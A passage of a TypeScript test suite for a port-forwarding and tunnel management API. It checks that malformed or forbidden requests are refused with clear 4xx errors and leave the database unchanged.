    body: { name: '<h1>Game</h1>', ports: [{ protocol: 'tcp', port: 7777 }] },
    status: 400,
    code: 'validation',
    field: 'name',
  },
  {
    name: 'template: name of a built-in',
    method: 'POST',
    url: ST,
    body: { name: 'DayZ', ports: [{ protocol: 'tcp', port: 7777 }] },
    status: 409,
    code: 'service_template.name_taken',
    field: 'name',
  },
  {
    name: 'template: DELETE a built-in',
    method: 'DELETE',
    url: (f) => `${ST}/${f.dayz}`,
    status: 409,
    code: 'service_template.builtin',
    mentions: () => 'DayZ',
  },
  {
    name: 'template: PATCH a built-in',
    method: 'PATCH',
    url: (f) => `${ST}/${f.dayz}`,
    body: { description: 'mine now' },
    status: 409,
    code: 'service_template.builtin',
    mentions: () => 'DayZ',
  },
  {
    name: 'template: PATCH an unknown one',
    method: 'PATCH',
    url: `${ST}/${NONE}`,
    body: { name: 'Nothing' },
    status: 404,
    code: 'not_found',
  },
  {
    name: 'template: PATCH to the name of a built-in (any case)',
    method: 'PATCH',
    url: (f) => `${ST}/${f.customTemplate}`,
    body: { name: 'dayz' },
    status: 409,
    code: 'service_template.name_taken',
    field: 'name',
  },
  {
    name: 'template: PATCH with no ports',
    method: 'PATCH',
    url: (f) => `${ST}/${f.customTemplate}`,
    body: { ports: [] },
    status: 400,
    code: 'validation',
    field: 'ports',
  },
  {
    name: 'template: PATCH with port 70000 and a name with HTML',
    method: 'PATCH',
    url: (f) => `${ST}/${f.customTemplate}`,
    body: { name: '<b>x</b>', ports: [{ protocol: 'tcp', port: 70000 }] },
    status: 400,
    code: 'validation',
    field: 'ports.0.port',
  },
  {
    name: 'template: PATCH builtin (not changeable)',
    method: 'PATCH',
    url: (f) => `${ST}/${f.customTemplate}`,
    body: { builtin: true },
    status: 400,
    code: 'validation',
    field: 'builtin',
  },

  // ---- audit log, agents ------------------------------------------------------------------------
  {
    name: 'audit log: from=yesterday',
    method: 'GET',
    url: '/api/v1/audit-log?from=yesterday',
    status: 400,
    code: 'validation',
    field: 'from',
  },
  {
    name: 'audit log: limit=100000',
    method: 'GET',
    url: '/api/v1/audit-log?limit=100000',
    status: 400,
    code: 'validation',
    field: 'limit',
  },
  {
    name: 'audit log: offset=-1',
    method: 'GET',
    url: '/api/v1/audit-log?offset=-1',
    status: 400,
    code: 'validation',
    field: 'offset',
  },
  {
    name: 'audit log: action of 65 characters',
    method: 'GET',
    url: `/api/v1/audit-log?action=${'a'.repeat(65)}`,
    status: 400,
    code: 'validation',
    field: 'action',
  },
  {
    name: 'agent: DELETE with a non-UUID id',
    method: 'DELETE',
    url: `/api/v1/agents/${BAD_ID}`,
    status: 400,
    code: 'validation',
    field: 'id',
  },
  {
    name: 'agent: DELETE a nonexistent agent',
    method: 'DELETE',
    url: `/api/v1/agents/${NONE}`,
    status: 404,
    code: 'not_found',
  },

  // ---- the body itself ----------------------------------------------------------------------------
  { name: 'body: malformed JSON', method: 'POST', url: U, body: '{"a":', status: 400, code: 'bad_json' },
  {
    name: 'body: text/plain',
    method: 'POST',
    url: U,
    body: 'email=x',
    headers: { 'content-type': 'text/plain' },
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    name: 'body: form-encoded',
    method: 'POST',
    url: U,
    body: 'email=x%40example.com&name=x&password=xxxxxxxxxxxx',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    name: 'body: XML',
    method: 'POST',
    url: PF,
    body: '<forward/>',
    headers: { 'content-type': 'application/xml' },
    status: 415,
    code: 'unsupported_media_type',
  },
  { name: 'body: a JSON array', method: 'POST', url: U, body: [user()], status: 400, code: 'validation' },
  { name: 'body: a JSON string', method: 'POST', url: PF, body: '"tcp 80"', status: 400, code: 'validation' },
  { name: 'body: JSON null', method: 'PATCH', url: TS, body: 'null', status: 400, code: 'validation' },
  {
    name: 'body: over 1 MiB',
    method: 'POST',
    url: ST,
    body: { name: 'Big', description: 'x'.repeat(1_100_000), ports: [] },
    status: 413,
    code: 'body_too_large',
  },

  // ---- fixed server bugs (these once changed data) -------------------------------------------------
  {
    name: 'forward: description with a C1 control character (NEL)',
    method: 'POST',
    url: PF,
    body: forward({ publicPort: 9000, destinationPort: 9000, description: 'line one\u0085line two' }),
    status: 400,
    code: 'validation',
    field: 'description',
  },
  {
    name: 'tunnel client: move to another server while it has forwards',
    method: 'PATCH',
    url: TC,
    body: (f: Fx) => ({ tunnelServerId: f.otherServer }),
    status: 409,
  },
  {
    // A /32 (or /31) has no room for a server and a client.
    name: 'tunnel server: a /32 tunnel network',
    method: 'PATCH',
    url: (f) => `/api/v1/tunnel-servers/${f.spareServer}`,
    body: { tunnelNetworkV4: '10.98.0.0/32' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
  {
    name: 'tunnel server: 0.0.0.0/0 as the tunnel network',
    method: 'PATCH',
    url: (f) => `/api/v1/tunnel-servers/${f.spareServer}`,
    body: { tunnelNetworkV4: '0.0.0.0/0' },
    status: 400,
    code: 'validation',
    field: 'tunnelNetworkV4',
  },
]

const skip = await skipDb()

describe.skipIf(skip)('bad requests are refused with a 4xx, a useful message and no change', () => {
  let t: TestServer
  let admin: Client
  let fx: Fx

  /** The rows that matter, without times that change on every sign-in or use. */
  async function snapshot(): Promise<string> {
    const db = t.db
    const [users, portForwards, tunnelServers, tunnelClients, apiTokens, registrationTokens, serviceTemplates, agents] =
      await Promise.all([
        db.selectFrom('users').selectAll().orderBy('id').execute(),
        db.selectFrom('portForwards').selectAll().orderBy('id').execute(),
        db.selectFrom('tunnelServers').selectAll().orderBy('id').execute(),
        db.selectFrom('tunnelClients').selectAll().orderBy('id').execute(),
        db.selectFrom('apiTokens').selectAll().orderBy('id').execute(),
        db.selectFrom('registrationTokens').selectAll().orderBy('id').execute(),
        db.selectFrom('serviceTemplates').selectAll().orderBy('id').execute(),
        db.selectFrom('agents').selectAll().orderBy('id').execute(),
      ])
    return JSON.stringify({
      users: users.map(({ lastLoginAt: _l, ...u }) => u),
      portForwards,
      tunnelServers,
      tunnelClients,
      apiTokens: apiTokens.map(({ lastUsedAt: _l, ...a }) => a),
      registrationTokens,
      serviceTemplates,
      agents: agents.map(({ lastSeenAt: _l, ...a }) => a),
    })
  }

  beforeAll(async () => {
    t = await startTestServer()
    admin = await signIn(t)
    const main: Seeded = await seedTunnel(t.db)
    const other: Seeded = await seedTunnel(t.db, { server: 'vps-2', client: 'homelab-2' })
    const spareAgent = await insertAgent(t.db, { name: 'vps-3', kind: 'server' })
    const spare = await insertTunnelServer(t.db, {
      agentId: spareAgent.id,
      name: 'vps-3',
      tunnelNetworkV4: '10.98.0.0/24',
    })
    const neighbourAgent = await insertAgent(t.db, { name: 'homelab-3', kind: 'client' })
    const neighbour = await insertTunnelClient(t.db, {
      agentId: neighbourAgent.id,
      name: 'homelab-3',
      tunnelServerId: main.server.id,
      tunnelIp: '10.99.0.3',
    })

    const base = { tunnelServerId: main.server.id, tunnelClientId: main.client.id, destinationIp: '192.168.1.10' }
    const tcp = await admin.post<PortForward>('/api/v1/port-forwards', {
      ...base,
      protocol: 'tcp',
      publicPort: 25565,
      destinationPort: 25565,
      description: 'Minecraft',
    })
    const udp = await admin.post<PortForward>('/api/v1/port-forwards', {
      ...base,
      protocol: 'udp',
      publicPort: 27015,
      publicPortEnd: 27020,
      destinationPort: 27015,
      description: 'Source engine',
    })
    const bob = await admin.post<User>('/api/v1/users', {
      email: 'bob@example.com',
      name: 'Bob',
      password: 'bob password 123',
    })
    const token = await admin.post<ApiTokenCreated>('/api/v1/api-tokens', { name: 'ci' })
    const custom = await admin.post<ServiceTemplate>('/api/v1/service-templates', {
      name: 'Valheim',
      ports: [{ protocol: 'udp', port: 2456, portEnd: 2458 }],
    })
    for (const r of [tcp, udp, bob, token, custom]) expect(r.status, JSON.stringify(r.body)).toBe(201)

    const templates = (await admin.get<Page<ServiceTemplate>>('/api/v1/service-templates?limit=500')).body.items
    const templateId = (name: string) => {
      const found = templates.find((x) => x.name === name)
      if (!found) throw new Error(`no built-in template ${name}`)
      return found.id
    }
    const me = await admin.get<User>('/api/v1/auth/me')

    fx = {
      server: main.server.id,
      client: main.client.id,
      neighbour: neighbour.id,
      otherServer: other.server.id,
      otherClient: other.client.id,
      spareServer: spare.id,
      tcpForward: tcp.body.id,
      udpRange: udp.body.id,
      adminId: me.body.id,
      bob: bob.body.id,
      apiToken: token.body.id,
      dayz: templateId('DayZ'),
      minecraft: templateId('Minecraft Java'),
      webTemplate: templateId('Web'),
      customTemplate: custom.body.id,
    }
  })
  afterAll(async () => {
    await t?.close()
  })

  test('the table has at least 50 bad requests, each named once', () => {
    expect(rows.filter((r) => !r.knownBug).length).toBeGreaterThanOrEqual(50)
    expect(new Set(rows.map((r) => r.name)).size).toBe(rows.length)
  })

  async function check(row: Row) {
    const url = typeof row.url === 'function' ? row.url(fx) : row.url
    const body = typeof row.body === 'function' ? (row.body as (f: Fx) => unknown)(fx) : row.body
    const before = await snapshot()

    const res = await admin.request<{ error?: { code?: unknown; message?: unknown; fields?: Record<string, string> } }>(
      row.method,
      url,
      body,
      row.headers,
    )
    const shown = JSON.stringify(res.body)?.slice(0, 600)

    expect(res.status, shown).toBe(row.status)
    expect(res.body, shown).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } })
    const error = res.body.error!
    const message = error.message as string
    if (row.code) expect(error.code, shown).toBe(row.code)
    // A sentence a person can act on, not a bare status text nor a leaked internal error.
    expect(message.length, shown).toBeGreaterThan(10)
    expect(message).not.toMatch(/^(bad request|not found|conflict|error)\.?$/i)
    expect(message).not.toMatch(/sqlite|postgres|syntax error|stack|at \w+ \(|\[object Object\]/i)
    if (row.field) {
      const named = error.fields?.[row.field] !== undefined || message.includes(row.field)
      expect(named, `expected field ${row.field} in ${shown}`).toBe(true)
      if (error.fields?.[row.field] !== undefined) expect(error.fields[row.field]!.length).toBeGreaterThan(3)
    }
    if (row.mentions) expect(message, shown).toContain(row.mentions(fx))

    expect(await snapshot()).toBe(before)
  }

  test.each(rows.filter((r) => !r.knownBug))('$method $name → $status', check)

  test('after all of it the fixtures are intact and still usable', async () => {
    const forwards = await admin.get<Page<PortForward>>(`/api/v1/port-forwards?tunnelServerId=${fx.server}`)
    expect(forwards.status).toBe(200)
    expect(forwards.body.items.map((f) => f.id).sort()).toEqual([fx.tcpForward, fx.udpRange].sort())
    const users = await admin.get<Page<User>>('/api/v1/users')
    expect(users.body.items.map((u) => u.email)).toEqual(['admin@example.com', 'bob@example.com'])
    expect((await signIn(t, 'bob@example.com', 'bob password 123')).auth.cookie).toBeTruthy()
  })

  test('the snapshot does see a change (so "unchanged" above means something)', async () => {
    const before = await snapshot()
    const r = await admin.patch(`/api/v1/port-forwards/${fx.tcpForward}`, { description: 'Minecraft (renamed)' })
    expect(r.status).toBe(200)
    expect(await snapshot()).not.toBe(before)
  })

  // Last: while these bugs exist the requests succeed and change the fixtures.
  test.fails.each(rows.filter((r) => r.knownBug))('known bug: $method $name → $status', check)
})
